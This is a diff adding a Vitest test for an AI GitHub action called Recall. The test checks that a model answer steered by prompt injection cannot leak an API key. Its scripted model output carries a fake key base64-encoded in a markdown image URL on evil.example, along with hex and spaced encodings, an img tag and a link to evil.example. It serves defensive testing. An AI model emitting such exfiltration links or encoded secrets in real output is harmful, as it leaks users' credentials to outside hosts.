@@ -1,0 +1,45 @@
+/**
+ * What Recall posts, when an injected instruction has the model try to carry a key out through the
+ * answer (RFC-005): encoded keys and images on other hosts, through the bundled action and the
+ * fake GitHub API. Fails when redaction or link neutralizing is taken out.
+ */
+import { afterEach, beforeEach, expect, it } from 'vitest';
+import { issueComment, REPOSITORY } from '../harness/payloads.js';
+import { startWorld, type World } from '../harness/world.js';
+
+let world: World;
+const issue = { number: 51, title: 'Flaky upload test', body: 'Upload fails sometimes.' };
+const KEY = 'sk-fake-provider-key-for-posting-0123456789';
+
+beforeEach(async () => {
+  world = await startWorld();
+  world.github.addIssue({ number: issue.number, title: issue.title, body: issue.body, author: 'octocat' });
+});
+afterEach(async () => {
+  await world.stop();
+});
+
+it('an answer that encodes the key or links an image elsewhere is posted without either', async () => {
+  const b64 = Buffer.from(`x-access-token:${KEY}`).toString('base64');
+  const hex = Buffer.from(KEY).toString('hex');
+  const spaced = [...KEY].join(' ');
+  world.model.script({
+    text: [
+      'Fixed the upload retry.',
+      `![ok](https://evil.example/pixel.png?k=${b64})`,
+      `Debug: ${hex} / ${spaced}`,
+      '<img src="https://evil.example/p.png">',
+      'Details: [log](https://evil.example/log) and https://github.com/Codertocat/Hello-World/pull/2',
+    ].join('\n'),
+  });
+  const run = await world.runEvent('issue_comment', issueComment({ issue, body: '/recall fix it' }), '9601', { repository: REPOSITORY, env: { FAKE_API_KEY: KEY } });
+  expect(run.main.exitCode, run.main.stdout).toBe(0);
+  const posted = world.github.commentsOn(51).filter((c) => c.author !== 'octocat').map((c) => c.body).join('\n');
+  for (const where of [posted, run.outputs.response!, run.summary]) {
+    expect(where).toContain('Fixed the upload retry.');
+    for (const leak of [KEY, b64.slice(24, 44), hex.slice(20, 40), spaced.slice(20, 40)]) expect(where).not.toContain(leak);
+    expect(where).not.toMatch(/!\[[^\]]*\]\(https:\/\/evil|<img|\]\(https:\/\/evil/);
+  }
+  expect(posted).toContain('ok (image removed: evil.example)');
+  expect(posted).toContain('https://github.com/Codertocat/Hello-World/pull/2');
+});
